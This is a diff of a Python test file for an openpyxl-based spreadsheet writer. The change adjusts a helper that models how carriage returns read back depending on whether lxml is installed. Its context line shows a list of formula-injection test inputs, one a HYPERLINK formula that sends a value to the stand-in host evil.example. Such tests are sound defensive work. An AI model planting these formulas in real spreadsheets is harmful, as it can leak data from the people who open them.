@@ -33,8 +33,11 @@ INJECTIONS = ["=1+1", "@SUM(A1)", "-2+3", '=HYPERLINK("http://evil.example/?x="&
 
 
 def as_read(text: str) -> str:
-    """XML turns a carriage return in text into a line feed when the file is read (Excel does the same)."""
-    return text.replace("\r", "\n")
+    """The text as read back: with lxml installed openpyxl escapes a carriage return (&#13;) and it survives;
+    without lxml, XML parsing turns it into a line feed (Excel does the same)."""
+    from openpyxl.xml import LXML
+
+    return text if LXML else text.replace("\r", "\n")
 
 
 @pytest.fixture(autouse=True)
